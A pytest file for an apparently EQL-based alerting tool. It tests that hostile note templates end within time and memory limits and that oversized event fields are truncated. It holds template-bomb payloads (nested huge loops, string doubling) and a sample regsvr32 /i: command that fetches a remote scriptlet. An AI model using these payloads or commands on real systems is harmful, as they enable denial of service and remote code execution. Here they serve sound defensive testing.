"""Notes and alert documents as a user meets them: `eqlwatch hunt` / `run` in a subprocess.

A hostile template must end within the limit with bounded memory and leave the alert
written; `hunt` run from a directory with no `templates/` renders the packaged default
note; one huge event field cannot make a huge alert.
"""

from __future__ import annotations

import os
import resource
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path

import orjson
import pytest

from tests.rules.conftest import minimal_rule

RULE_WITH_NOTE = """
false_positives = ["Installers registering their own COM servers."]
references = ["https://attack.mitre.org/techniques/T1218/010/"]
note = \"\"\"## Triage and analysis\n\n- Look at the parent of regsvr32.\n\"\"\"

[[rule.threat]]
framework = "MITRE ATT&CK"

[rule.threat.tactic]
id = "TA0005"
name = "Defense Evasion"
reference = "https://attack.mitre.org/tactics/TA0005/"

[[rule.threat.technique]]
id = "T1218"
name = "System Binary Proxy Execution"
reference = "https://attack.mitre.org/techniques/T1218/"
"""


def _event(command_line: str, n: int = 0) -> dict[str, object]:
    return {
        "@timestamp": f"2026-11-21T11:00:{n:02d}.000Z",
        "event": {"category": ["process"], "type": ["start"], "kind": "event"},
        "host": {"name": "ws-1", "os": {"type": "windows"}},
        "user": {"name": "alice"},
        "process": {
            "name": "regsvr32.exe",
            "pid": 100 + n,
            "command_line": command_line,
            "parent": {"name": "cmd.exe", "pid": 99},
        },
    }


def _events_file(path: Path, *events: dict[str, object]) -> Path:
    path.write_bytes(b"".join(orjson.dumps(e) + b"\n" for e in events))
    return path


def _eqlwatch(cwd: Path, *args: str, timeout: float = 120) -> subprocess.CompletedProcess[bytes]:
    env = {**os.environ, "COLUMNS": "200"}
    return subprocess.run(
        [sys.executable, "-m", "eqlwatch", *args],
        cwd=cwd,
        env=env,
        capture_output=True,
        timeout=timeout,
        check=False,
    )


def _ndjson(out: bytes) -> list[dict[str, object]]:
    return [orjson.loads(line) for line in out.splitlines() if line.strip()]


@pytest.mark.parametrize(
    "body",
    [
        "{% for i in range(100000) %}{% for j in range(100000) %}x{% endfor %}{% endfor %}",
        "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}",
        "{{ 'a' * 10**9 }}",
        "{% set ns = namespace(s='ab') %}{% for i in range(60) %}{% set ns.s = ns.s ~ ns.s %}"
        "{% endfor %}{{ ns.s }}",
        "{% set s = 'a' * 60000 %}{% set t %}{% for i in range(100000) %}{{ s }}{% endfor %}"
        "{% endset %}{{ t | length }}",
    ],
    ids=["nested-loops-output", "nested-loops-quiet", "huge-multiply", "doubling", "block-buffer"],
)
def test_hostile_template_ends_within_the_limit_and_the_alert_is_written(
    tmp_path: Path, body: str
) -> None:
    (tmp_path / "rules").mkdir()
    (tmp_path / "templates").mkdir()
    (tmp_path / "templates" / "evil.md.j2").write_text(body)
    extra = '\n[eqlwatch]\ntemplate = "evil.md.j2"\n'
    (tmp_path / "rules" / "r.toml").write_text(minimal_rule(extra=extra))
    events = _events_file(tmp_path / "e.ndjson", _event("regsvr32 /s x.dll"))
    usage = resource.getrusage(resource.RUSAGE_CHILDREN)
    before, cpu_before = usage.ru_maxrss, usage.ru_utime + usage.ru_stime
    result = _eqlwatch(
        tmp_path,
        "hunt",
        "--rules",
        "rules",
        "--templates",
        "templates",
        "--format",
        "ndjson",
        str(events),
    )
    usage = resource.getrusage(resource.RUSAGE_CHILDREN)
    cpu = usage.ru_utime + usage.ru_stime - cpu_before
    peak_mb = usage.ru_maxrss / 1024
    assert result.returncode == 0, result.stderr.decode()
    (alert,) = _ndjson(result.stdout)
    own = alert["eqlwatch"]
    assert isinstance(own, dict)
    assert own["note"].startswith("# Minimal\n\n_The note template failed: Template")
    assert "limit" in own["note_error"]
    stderr = result.stderr.decode()
    assert "1 alerts, 1 note errors" in stderr
    assert "evil.md.j2" in stderr  # the log line names the template ...
    assert "11111111-2222-3333-4444-555555555555" in stderr  # ... and the rule
    # CPU seconds of the child (steadier than wall time on a busy machine): the limit is
    # 1 s, start-up and rule loading take ~2 s; before the limits, minutes or hours.
    assert cpu < 20, cpu
    # Children's peak RSS: this child's when it set a new maximum (else an earlier one's).
    assert peak_mb < 600 or peak_mb == before / 1024, peak_mb


def test_hunt_outside_a_checkout_renders_the_packaged_default_note(tmp_path: Path) -> None:
    """cwd has no templates/: rules without [eqlwatch] and rules naming a template both
    get the packaged default note, with the rule's own metadata, and no note error."""
    (tmp_path / "rules").mkdir()
    (tmp_path / "rules" / "plain.toml").write_text(minimal_rule(extra=RULE_WITH_NOTE))
    named = minimal_rule("22222222-2222-3333-4444-555555555555")
    named = named.replace('name = "Minimal"', 'name = "Named template"')
    (tmp_path / "rules" / "named.toml").write_text(
        named + '\n[eqlwatch]\ntemplate = "regsvr32_renamed.md.j2"\n'
    )
    events = _events_file(tmp_path / "e.ndjson", _event("regsvr32 /s /i:http://x/y.sct x.dll"))
    result = _eqlwatch(tmp_path, "hunt", "--rules", "rules", "--format", "ndjson", str(events))
    assert result.returncode == 0, result.stderr.decode()
    assert "2 alerts, 0 note errors" in result.stderr.decode()
    notes = {a["rule"]["name"]: a["eqlwatch"]["note"] for a in _ndjson(result.stdout)}  # type: ignore[index]
    plain = notes["Minimal"]
    assert plain.startswith("# Minimal\n")
    for text in (
        "**Severity:** medium · **Risk score:** 47",
        "A minimal rule for tests.",
        "Defense Evasion** (TA0005)",
        "T1218 System Binary Proxy Execution",
        "- https://attack.mitre.org/techniques/T1218/010/",
        "- Installers registering their own COM servers.",
        "- Look at the parent of regsvr32.",
        "`regsvr32 /s /i:http://x/y.sct x.dll`",
    ):
        assert text in plain, text
    assert "The note template failed" not in notes["Named template"]
    assert notes["Named template"].startswith("# Named template\n")

    # The table output renders the same notes.
    result = _eqlwatch(tmp_path, "hunt", "--rules", "rules", str(events))
    assert result.returncode == 0
    assert "Defense Evasion" in result.stdout.decode()


def test_a_huge_event_field_makes_a_bounded_alert(tmp_path: Path) -> None:
    (tmp_path / "rules").mkdir()
    (tmp_path / "rules" / "r.toml").write_text(minimal_rule())
    huge = "regsvr32.exe " + "A" * 5_000_000
    events = _events_file(tmp_path / "e.ndjson", _event(huge), _event("regsvr32 /s ok.dll", 1))
    result = _eqlwatch(tmp_path, "hunt", "--rules", "rules", "--format", "ndjson", str(events))
    assert result.returncode == 0, result.stderr.decode()
    lines = [line for line in result.stdout.splitlines() if line]
    assert len(lines) == 2
    assert max(len(line) for line in lines) < 200_000
    by_cmd = {a["process"]["command_line"][:20]: a for a in map(orjson.loads, lines)}
    capped = by_cmd[huge[:20]]["process"]["command_line"]
    assert capped == huge[:32_000] + f"…[truncated {len(huge) - 32_000:,} chars]"
    ok = by_cmd["regsvr32 /s ok.dll"]
    assert ok["process"]["command_line"] == "regsvr32 /s ok.dll"
    # The huge alert's note went past its size limit: fallback note, counted.
    assert by_cmd[huge[:20]]["eqlwatch"]["note_error"].startswith("TemplateLimitError")
    assert "note_error" not in ok["eqlwatch"]
    assert "2 alerts, 1 note errors" in result.stderr.decode()


def test_job_alert_limits_are_applied_by_run(tmp_path: Path) -> None:
    (tmp_path / "queries").mkdir()
    (tmp_path / "jobs").mkdir()
    (tmp_path / "data").mkdir()
    (tmp_path / "queries" / "r.toml").write_text(minimal_rule())
    _events_file(
        tmp_path / "data" / "logs-endpoint.events.process-default.ndjson", _event("C" * 5000)
    )
    (tmp_path / "jobs" / "j.toml").write_text(
        '[job]\nid = "j"\nschedule = { interval = "5m" }\nlook_back = "2h"\n'
        'rules = { paths = ["queries/*.toml"] }\n'
        '[job.source]\nbackend = "local"\npaths = ["data/*.ndjson"]\n'
        '[job.alert_limits]\nmax_string_bytes = 1000\nnote_max_chars = 2000\nnote_timeout = "2s"\n'
    )
    now = datetime(2026, 11, 21, 12, 0, tzinfo=UTC).isoformat()
    result = _eqlwatch(tmp_path, "run", "--once", "--now", now)
    assert result.returncode == 0, result.stderr.decode() + result.stdout.decode()
    (alert,) = _ndjson((tmp_path / "out" / "alerts.ndjson").read_bytes())
    assert alert["process"]["command_line"] == "C" * 1000 + "…[truncated 4,000 chars]"  # type: ignore[index]
    assert "2,000 chars limit" in alert["eqlwatch"]["note_error"]  # type: ignore[index]
    report = _ndjson((tmp_path / "out" / "runs.ndjson").read_bytes())
    assert [r["eqlwatch"]["run"]["note_errors"] for r in report] == [1]  # type: ignore[index]
